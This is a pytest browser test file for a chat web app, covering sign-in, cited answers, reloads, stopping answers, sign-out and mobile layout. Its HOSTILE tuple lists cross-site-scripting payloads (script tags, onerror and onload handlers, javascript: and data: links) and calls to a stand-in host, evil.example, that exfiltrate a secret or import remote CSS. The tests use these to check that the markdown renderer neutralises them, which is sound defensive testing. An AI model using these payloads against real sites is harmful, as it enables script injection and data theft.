"""The page in a real browser against the whole stack: what a person does, and what must never happen to them."""

import signal
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import httpx
import pytest

from tests.support.browser import Page, browsing, installed_browser
from tests.support.stack import Stack

pytestmark = pytest.mark.skipif(
    installed_browser() is None, reason="no browser: install chromium, or name one in PARLEY_TEST_BROWSER"
)

DOCUMENT: Final = """# Harbour guide

The harbour master of Port Lindgren is Astrid Holm. She took office in March 2019.

The ferry to Seal Island leaves every morning at 08:15 from pier 4. A return ticket costs 12 crowns.
"""
DONE: Final = "document.querySelector('article.answer:last-of-type[aria-busy=false]')"
PROSE: Final = "document.querySelector('article.answer:last-of-type .prose').innerText"


@pytest.fixture
def page(stack: Stack) -> Iterator[Page]:
    """A browser in front of the sign-in card."""
    with browsing(str(installed_browser())) as opened:
        opened.resize(1280, 800)
        opened.open(f"{stack.url}/")
        opened.wait_for_text("Sign in to Parley")
        yield opened
        foreign = {url for url in opened.requests if not url.startswith((f"{stack.url}/", "about:", "data:"))}
        assert not foreign


@pytest.fixture
def api(stack: Stack) -> Iterator[httpx.Client]:
    """The API, as a program uses it beside the page."""
    headers = {"authorization": f"Bearer {stack.api_key}"}
    with httpx.Client(base_url=stack.url, headers=headers, timeout=30) as client:
        yield client


def sign_in(page: Page, stack: Stack) -> None:
    page.type(stack.email, into="#email")
    page.press("Tab")
    page.type(stack.password)
    page.press("Enter")
    page.wait_for("document.querySelectorAll('#model option').length > 1")
    page.wait_for("document.querySelector('#base option[value=new]')")


def slow_conversation(page: Page, api: httpx.Client) -> str:
    """A conversation whose answers take seconds, opened on the page and asked a question."""
    made = api.post("/api/v1/conversations", json={"model": "scripted/slow"}).json()
    identity: str = made["id"]
    page.evaluate(f"location.hash = '#/c/{identity}'")
    page.wait_for("document.querySelector('#model').value === 'scripted/slow'")
    page.type("Tell me slowly", into="#question")
    page.press("Enter")
    page.wait_for(f"(e => e && e.innerText.length > 20)(document.querySelector('article.answer .prose')) && {PROSE}")
    return identity


def stored_answer(api: httpx.Client, conversation: str) -> dict[str, Any]:  # Any: JSON
    messages = api.get(f"/api/v1/conversations/{conversation}/messages").json()["messages"]
    answer: dict[str, Any] = messages[-1]
    return answer


def text_of(answer: dict[str, Any]) -> str:  # Any: JSON
    return "".join(part["text"]["text"] for part in answer["parts"])


def words(text: str) -> list[str]:
    return text.split()


def test_a_person_gets_a_cited_answer_from_their_own_document(
    page: Page, stack: Stack, tmp_path: Path, api: httpx.Client
) -> None:
    file = tmp_path / "harbour.md"
    file.write_text(DOCUMENT)
    sign_in(page, stack)
    page.evaluate("(s => { s.value = 'new'; s.dispatchEvent(new Event('change')) })(document.querySelector('#base'))")
    page.type(f"Harbour of {tmp_path.name}", into="#base-name")
    page.press("Enter")
    page.wait_for("document.querySelector('dialog.library').open")
    page.choose_files("#files", [file])
    page.wait_for_text("Ready", within_s=60)
    page.press("Escape")
    page.type("Who is the harbour master of Port Lindgren?", into="#question")
    page.press("Enter")
    page.wait_for(DONE, within_s=60)
    answer = page.evaluate(PROSE)
    page.click(".cite")
    page.wait_for("document.querySelector('.source mark')")
    quote = page.evaluate("document.querySelector('.source mark').innerText")
    page.press("Escape")
    page.wait_for("document.querySelector('.source').hidden")
    page.wait_for("document.querySelector('.past [aria-current]')")
    past = page.evaluate("document.querySelector('.past [aria-current]').innerText")

    assert "Astrid Holm" in answer
    assert "Astrid Holm" in quote
    assert past.startswith("Who is the harbour master")
    conversation = page.evaluate("location.hash").removeprefix("#/c/")
    assert "Astrid Holm" in text_of(stored_answer(api, conversation))


def test_a_reload_in_mid_answer_goes_on_without_gap_or_repeat(page: Page, stack: Stack, api: httpx.Client) -> None:
    sign_in(page, stack)
    conversation = slow_conversation(page, api)
    page.command("Page.reload")
    page.wait_for("document.querySelector('article.answer[aria-busy=true] .prose')")
    page.wait_for(DONE, within_s=60)

    assert words(page.evaluate(PROSE)) == words(text_of(stored_answer(api, conversation)))


def test_the_page_outlives_a_restart_of_the_edge_in_mid_answer(page: Page, stack: Stack, api: httpx.Client) -> None:
    sign_in(page, stack)
    conversation = slow_conversation(page, api)
    stack.kill("edge", signal.SIGKILL)
    page.wait_for(DONE, within_s=60)

    assert words(page.evaluate(PROSE)) == words(text_of(stored_answer(api, conversation)))


def test_an_answer_can_be_stopped(page: Page, stack: Stack, api: httpx.Client) -> None:
    sign_in(page, stack)
    conversation = slow_conversation(page, api)
    page.click("button[aria-label='Stop the answer']")
    page.wait_for_text("Stopped.", within_s=60)
    answer = stored_answer(api, conversation)

    assert answer["state"] == "cancelled"
    assert words(page.evaluate(PROSE)) == words(text_of(answer))


def test_errors_are_said_in_words(page: Page, stack: Stack, tmp_path: Path, api: httpx.Client) -> None:
    page.type(stack.email, into="#email")
    page.type("not the password", into="#password")
    page.press("Enter")
    page.wait_for_text("E-mail address or password is wrong.")
    page.evaluate("document.querySelector('#password').value = ''")
    sign_in_again = page.evaluate("document.activeElement.id")
    page.type(stack.password, into="#password")
    page.press("Enter")
    page.wait_for_text("New conversation")
    base = api.post("/api/v1/knowledge_bases", json={"display_name": f"Bad files of {tmp_path.name}"}).json()
    page.command("Page.reload")
    page.wait_for(f"document.querySelector(\"#base option[value='{base['id']}']\")")
    page.evaluate(
        f"(s => {{ s.value = '{base['id']}'; s.dispatchEvent(new Event('change')) }})(document.querySelector('#base'))"
    )
    page.click("button[aria-label='Documents of this knowledge base']")
    file = tmp_path / "not-really.pdf"
    file.write_bytes(b"\x00\x01\x02\x03" * 100)
    page.choose_files("#files", [file])
    page.wait_for("document.querySelector('.documents .failed small')", within_s=60)

    assert sign_in_again == "password"
    assert page.evaluate("document.querySelector('.documents .failed small').innerText.length") > 10


def test_signing_out_leaves_nothing_behind(page: Page, stack: Stack) -> None:
    sign_in(page, stack)
    page.click("button[aria-label='Sign out']")
    page.wait_for_text("Sign in to Parley")
    page.open(f"{stack.url}/")
    page.wait_for_text("Sign in to Parley")

    assert (
        page.evaluate("document.cookie + JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage})")
        == "{}{}"
    )


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_page_fits_a_phone(page: Page, stack: Stack, scheme: str) -> None:
    page.prefer(scheme)
    page.resize(360, 740)
    sign_in(page, stack)
    overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    page.click("button[aria-label='Conversations']")
    page.wait_for("document.querySelector('.work.open')")

    assert overflow == 0
    assert page.evaluate("document.querySelector('.menu').getAttribute('aria-expanded')") == "true"


HOSTILE: Final = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "![steal](https://evil.example/a.png?secret)",
    "[click](javascript:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "<javascript:alert(1)>",
    "[a](vbscript:x) [b](JaVaScRiPt:x) [c](\x01javascript:x)",
    "| <b>a</b> | b |\n|---|---|\n| <svg onload=alert(1)> | x |",
    "```html\n<iframe src='https://evil.example'></iframe>\n```",
    "> <style>@import 'https://evil.example/x.css'</style>",
    "\ue0001\ue001 [1]",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_model_says_never_becomes_markup(page: Page, text: str) -> None:
    found = page.evaluate(
        "import('/web/markdown.js').then(({ render }) => { const box = document.createElement('div');"
        f" box.append(render({text!r}, () => document.createElement('i'))); document.body.append(box);"
        " return { tags: [...box.querySelectorAll('*')].map(e => e.tagName.toLowerCase()),"
        " links: [...box.querySelectorAll('a')].map(a => a.protocol), hacked: window.hacked ?? null } })"
    )

    allowed = {"p", "br", "a", "i", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "div", "blockquote"}
    assert set(found["tags"]) <= allowed
    assert set(found["links"]) <= {"https:"}
    assert found["hacked"] is None


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("# a\n\nb **c** *d* `e`", "<h3>a</h3><p>b <strong>c</strong> <em>d</em> <code>e</code></p>"),
        ("- a\n- b\n  - c\n\n1. d", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><ol><li>d</li></ol>"),
        ("> a\n> b", "<blockquote><p>a<br>b</p></blockquote>"),
        ("```py\na < b\n```", '<pre tabindex="0"><code>a &lt; b</code></pre>'),
        ("snake_case_name 2*3*4", "<p>snake_case_name 2*3*4</p>"),
    ],
)
def test_markdown_becomes_elements(page: Page, text: str, markup: str) -> None:
    made = page.evaluate(
        "import('/web/markdown.js').then(({ render }) => { const box = document.createElement('div');"
        f" box.append(render({text!r}, () => '')); return box.innerHTML }})"
    )

    assert made == markup


def test_the_documentation_shows_every_service(page: Page, stack: Stack) -> None:
    page.open(f"{stack.url}/docs#NOT_FOUND")
    page.wait_for_text("TurnService")

    assert page.evaluate("document.querySelectorAll('article').length") > 30
    assert page.evaluate("document.getElementById('NOT_FOUND').innerText").startswith("NOT_FOUND")
    assert not page.errors[1:]  # the first one is the 401 of the page before
